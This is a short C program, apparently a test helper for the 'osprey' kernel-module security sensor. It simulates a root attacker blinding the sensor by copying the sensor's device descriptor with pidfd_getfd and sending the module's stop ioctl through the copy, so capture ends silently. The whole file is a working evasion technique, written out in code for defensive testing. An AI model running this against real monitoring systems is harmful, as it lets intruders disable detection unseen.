// SPDX-License-Identifier: Apache-2.0
/*
 * kmod-steal-stop PID: what an attacker with root does to blind a sensor on the osprey kernel
 * module when rmmod is refused (the sensor's open devices hold the module): take a copy of one of
 * the sensor's /dev/osprey<N> descriptors with pidfd_getfd() (Linux 5.6+, needs PTRACE_MODE_ATTACH
 * on the target: root) and send OSP_KMOD_IOC_STOP through it. The settings belong to the
 * consumer that opened the device (the sensor), so the module stops writing its records; the
 * sensor's own descriptors stay open and see nothing more.
 *
 * Exits 0 after the stop, 1 on failure (the reason on stderr), 77 if the kernel lacks pidfd_getfd.
 */
#include <dirent.h>
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "osprey_kmod_abi.h"

static int find_device_fd(const char *pid, int *ret_fd)
{
	char dir[64], link[PATH_MAX], target[PATH_MAX];
	struct dirent *de;
	DIR *d;
	ssize_t n;

	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	d = opendir(dir); /* O_CLOEXEC: opendir sets it */
	if (!d)
		return -errno;
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(link, sizeof(link), "%s/%s", dir, de->d_name);
		n = readlink(link, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		if (strncmp(target, "/dev/osprey", 11) == 0) {
			char *end;
			long fd;

			errno = 0;
			fd = strtol(de->d_name, &end, 10);
			if (errno || *end || fd < 0 || fd > INT_MAX)
				continue;
			printf("kmod-steal-stop: process %s holds %s as fd %ld\n", pid, target, fd);
			*ret_fd = (int)fd;
			closedir(d);
			return 0;
		}
	}
	closedir(d);
	return -ENOENT;
}

int main(int argc, char **argv)
{
	int pidfd, fd, target_fd, r;
	char *end;
	long pid;

	if (argc != 2) {
		fprintf(stderr, "usage: kmod-steal-stop PID\n");
		return 1;
	}
	errno = 0;
	pid = strtol(argv[1], &end, 10);
	if (errno || *end || pid <= 0 || pid > INT_MAX) {
		fprintf(stderr, "kmod-steal-stop: '%s' is not a process id\n", argv[1]);
		return 1;
	}
	r = find_device_fd(argv[1], &target_fd);
	if (r < 0) {
		fprintf(stderr, "kmod-steal-stop: process %ld holds no /dev/osprey device: %s\n", pid,
			strerror(-r));
		return 1;
	}
	pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
	if (pidfd < 0) {
		r = errno;
		fprintf(stderr, "kmod-steal-stop: pidfd_open(%ld): %s\n", pid, strerror(r));
		return r == ENOSYS ? 77 : 1;
	}
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, target_fd, 0);
	if (fd < 0) {
		r = errno;
		fprintf(stderr, "kmod-steal-stop: pidfd_getfd(%ld, %d): %s\n", pid, target_fd,
			strerror(r));
		return r == ENOSYS ? 77 : 1;
	}
	if (ioctl(fd, OSP_KMOD_IOC_STOP) < 0) {
		fprintf(stderr, "kmod-steal-stop: OSP_KMOD_IOC_STOP through the copied fd: %s\n",
			strerror(errno));
		return 1;
	}
	printf("kmod-steal-stop: stopped process %ld's capture through a copy of its fd %d\n", pid,
	       target_fd);
	close(fd);
	close(pidfd);
	return 0;
}
